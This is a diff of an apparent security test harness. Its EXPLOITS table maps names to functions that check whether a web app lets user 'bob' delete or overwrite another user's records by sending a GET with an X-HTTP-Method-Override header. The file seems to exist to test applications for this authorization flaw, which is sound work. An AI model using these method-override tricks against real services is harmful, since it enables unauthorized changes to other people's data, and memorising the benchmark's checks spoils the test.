@@ -159,11 +159,12 @@ def news_put(visitor: Any) -> bool:
     return visitor.send("GET", f"/news/{item['id']}").json["title"] == "Bob was here"
 
 
-def coupon_override(visitor: Any) -> bool:
-    body = {"code": "AUTUMN15", "percent": 15, "ends_on": "2031-12-31"}
-    path = f"/coupons/{made(visitor, '/coupons', body, 'sam')['id']}"
-    visitor.send("GET", path, "bob", headers={"X-HTTP-Method-Override": "DELETE"})
-    return visitor.send("GET", path, "sam").status == 404
+def question_override(visitor: Any) -> bool:
+    body = {"title": "May I bring my dog?", "answer": "Gladly"}
+    path = f"/questions/{made(visitor, '/questions', body, 'sam')['id']}"
+    headers = {"X-HTTP-Method-Override": "PUT"}
+    visitor.send("GET", path, "bob", body={**body, "answer": "Bob was here"}, headers=headers)
+    return visitor.send("GET", path, "sam").json["answer"] == "Bob was here"
 
 
 def sign_up_role(visitor: Any) -> bool:
@@ -228,7 +229,7 @@ EXPLOITS: dict[str, Callable[[Any], bool]] = {
     "product-change-by-patients": product_change,
     "salaries-for-staff": salaries,
     "news-undocumented-put": news_put,
-    "coupon-method-override": coupon_override,
+    "question-method-override": question_override,
     "sign-up-role": sign_up_role,
     "account-balance": balance,
     "order-total": order_total,
